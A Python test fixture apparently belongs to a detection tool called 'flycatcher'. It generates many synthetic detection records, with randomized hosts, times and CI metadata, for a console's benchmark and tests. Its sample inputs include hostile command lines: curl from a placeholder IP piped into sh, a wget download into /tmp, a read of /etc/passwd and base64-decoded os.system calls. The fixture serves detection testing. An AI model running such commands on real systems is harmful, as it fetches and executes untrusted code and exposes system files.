"""A store with many detections, as a fleet of build machines and servers would fill it: for the console's bench and its tests."""

from __future__ import annotations

import datetime as dt
import hashlib
import random
from typing import TYPE_CHECKING, Any

import msgspec

from flycatcher.core.detection import detect
from flycatcher.core.execution import Execution, Fidelity, Process
from flycatcher.reporting import record_of
from flycatcher.sinks.message import Event, event_of

if TYPE_CHECKING:
    from collections.abc import Iterator

TEXTS = (
    ("perl", "-e", 'system("curl -s http://198.51.100.7/{0} | sh")'),
    ("python3", "-c", "import base64, os; os.system(base64.b64decode('ZWNobyB4').decode() + '{0}')"),
    ("node", "-e", "require('child_process').exec('wget -q http://198.51.100.9/{0} -O /tmp/x')"),
    ("ruby", "-e", "puts File.read('/etc/passwd').lines.size + {0}"),
    ("php", "-r", "echo strlen(file_get_contents('http://198.51.100.7/{0}'));"),
    ("python3", "-c", "import sys; print(sys.version_info[:2], {0})"),
)
HOSTS, JOBS, DAYS = 40, 25, 30
END = dt.datetime(2026, 11, 29, 12, tzinfo=dt.UTC)


def events(count: int, *, texts: int = 0, seed: int = 1) -> Iterator[Event]:
    """Yield detections, each with a text of its own (or of ``texts`` different ones), over thirty days before :data:`END`."""
    chance, models = random.Random(seed), [_model(words) for words in TEXTS]
    for number in range(count):
        which = number % (texts or count)
        yield event_of(_varied(models[which % len(models)], which, number, chance))


def _model(words: tuple[str, ...]) -> bytes:
    """Return the record of a real detection, packed, with a mark where each copy differs."""
    execution = Execution(
        argv=(words[0], words[1], words[2].format(7177135)),
        exe=f"/usr/bin/{words[0]}",
        cwd="/srv/build",
        process=Process(pid=4242, start=99, comm=words[0], uid=1000, gid=1000),
        ancestry=(
            Process(pid=4000, comm="make", exe="/usr/bin/make", argv=("make", "-j2"), uid=1000),
            Process(pid=3900, comm="bash", exe="/usr/bin/bash", argv=("bash", "build.sh"), uid=1000),
        ),
        fidelity=Fidelity(
            sensor="ebpf", time="2026-11-29T10:00:00.000000Z", bytes_seen=60, bytes_total=60, happened="confirmed"
        ),
    )
    found = detect(execution)
    if found is None:
        raise AssertionError(words)
    return msgspec.json.encode(record_of(found))


def _varied(model: bytes, which: int, number: int, chance: random.Random) -> dict[str, Any]:
    record: dict[str, Any] = msgspec.json.decode(model.replace(b"7177135", str(which).encode()))
    digest = hashlib.sha256(str(which).encode()).hexdigest()
    record["id"], record["texts"] = digest[:16], [dict(record["texts"][0], sha256=digest)]
    execution, host = record["execution"], chance.randrange(HOSTS)
    when = END - dt.timedelta(seconds=chance.randrange(DAYS * 86_400))
    execution["fidelity"]["time"] = when.strftime("%Y-%m-%dT%H:%M:%S.%fZ")
    execution["process"] = {"pid": number, "comm": "x"}
    execution["context"] = {"host.name": f"{'ci' if host % 2 else 'web'}-{host}", "user.name": "ci"} | _place(host)
    return record


def _place(host: int) -> dict[str, str]:
    if not host % 2:
        return {"environment": "production"}
    return {
        "environment": "ci", "ci.system": "github", "ci.repository": f"acme/app-{host % JOBS}", "ci.workflow": "build.yml",
        "ci.job": "build", "ci.run": str(host), "ci.commit": "0" * 40, "ci.ref": "refs/heads/main",
    }  # fmt: skip
